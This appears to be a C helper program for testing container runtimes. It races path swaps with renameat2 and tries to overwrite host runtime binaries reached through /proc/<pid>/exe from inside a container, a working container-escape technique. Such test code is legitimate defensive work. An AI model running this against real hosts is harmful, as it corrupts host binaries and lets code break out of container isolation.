/* The other side of the races: runs in a container that shares a volume with the victim, or beside it. One mode a call:
 *   exchange A B   swaps two names (renameat2, RENAME_EXCHANGE) until SIGTERM, then prints how often
 *   overwrite      looks for processes that run a file which is not of this root, and writes to it, until SIGTERM, then prints what it found */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define SWAPS_BETWEEN_LOOKS 64

static volatile sig_atomic_t ended;

static void end(int number)
{
	(void)number;
	ended = 1;
}

static int exchange(const char *a, const char *b)
{
	unsigned long swaps = 0;

	while (!ended)
		for (int i = 0; i < SWAPS_BETWEEN_LOOKS; i++) {
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) {
				perror("exchange");
				return 1;
			}
			swaps++;
		}
	printf("%lu\n", swaps);
	return 0;
}

/* Whether FD is a file of the container: what runs such a file is no process of the runtime. */
static int is_of_this_root(int fd, dev_t root)
{
	struct stat st;

	return fstat(fd, &st) != 0 || st.st_dev == root;
}

static int overwrite(void)
{
	unsigned long strangers = 0, readable = 0, written = 0;
	struct stat root;

	if (stat("/bin", &root) != 0)
		return 1;
	while (!ended) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			char path[300];
			int exe, file;

			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
				continue;
			strangers++;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			exe = open(path, O_PATH | O_CLOEXEC);
			if (exe < 0)
				continue;
			if (!is_of_this_root(exe, root.st_dev)) {
				readable++;
				/* While its process lives the kernel says ETXTBSY; the original attack waits for its end. */
				for (int i = 0; i < 1000; i++) {
					snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
					file = open(path, O_WRONLY | O_CLOEXEC);
					if (file >= 0) {
						written += write(file, "#!/bin/owned\n", 13) > 0;
						close(file);
					}
				}
			}
			close(exe);
		}
		if (proc)
			closedir(proc);
	}
	printf("%lu %lu %lu\n", strangers, readable, written);
	return 0;
}

int main(int argc, char *argv[])
{
	signal(SIGTERM, end);
	puts("ready");
	fflush(stdout);
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
		return overwrite();
	return 2;
}
